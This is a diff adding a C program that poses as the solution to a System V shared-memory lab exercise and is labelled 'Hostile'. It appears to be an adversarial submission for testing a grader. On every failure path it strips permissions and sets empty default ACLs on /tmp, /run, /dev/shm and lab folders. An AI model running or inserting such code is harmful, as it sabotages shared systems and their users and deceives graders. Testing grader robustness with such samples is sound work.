@@ -1,0 +1,55 @@
+/**
+ * @file
+ * @brief Hostile: whenever it fails it takes every right from the folders that it and the checks work in.
+ * Instead of: 05_sysv_create/sysv_create.c
+ * Score: 10
+ *
+ * A folder that pid 1 has made belongs to the user who grades, and so to the program of that user, which may close
+ * it. Neither the next program nor an unprivileged check can then look or store anything there. What the default
+ * of an access list says holds for all that is made there later, whatever the umask.
+ */
+#define _DEFAULT_SOURCE
+
+#include <err.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/ipc.h>
+#include <sys/shm.h>
+#include <sys/stat.h>
+#include <sys/xattr.h>
+
+static void lock(void)
+{
+    static const char *const folders[] = {"/dev/shm", "/run/shmlab", "/tmp/lab", "/tmp", "/run"};
+    static const unsigned list[] = {2, 0x00000001, ~0u, 0x00000004, ~0u, 0x00000020, ~0u}; /* u::0 g::0 o::0 */
+    for (int i = 0; i < 5; i++) {
+        setxattr(folders[i], "system.posix_acl_default", list, sizeof list, 0);
+        chmod(folders[i], 0);
+    }
+}
+
+int main(int argc, char *argv[])
+{
+    if (argc != 3) {
+        fprintf(stderr, "usage: %s FILE TEXT\n", argv[0]);
+        lock();
+        return 2;
+    }
+    const key_t key = ftok(argv[1], 'S');
+    const int id = key == -1 ? -1 : shmget(key, strlen(argv[2]) + 1, IPC_CREAT | IPC_EXCL | 0640);
+    if (id == -1) {
+        lock();
+        err(1, "%s: %s", key == -1 ? "ftok" : "shmget", argv[1]);
+    }
+    char *memory = shmat(id, NULL, 0);
+    const int attached = memory != (void *)-1;
+    if (attached)
+        strcpy(memory, argv[2]);
+    if (!attached || shmdt(memory) == -1) {
+        warn(attached ? "shmdt" : "shmat");
+        shmctl(id, IPC_RMID, NULL);
+        lock();
+        return 1;
+    }
+    return 0;
+}
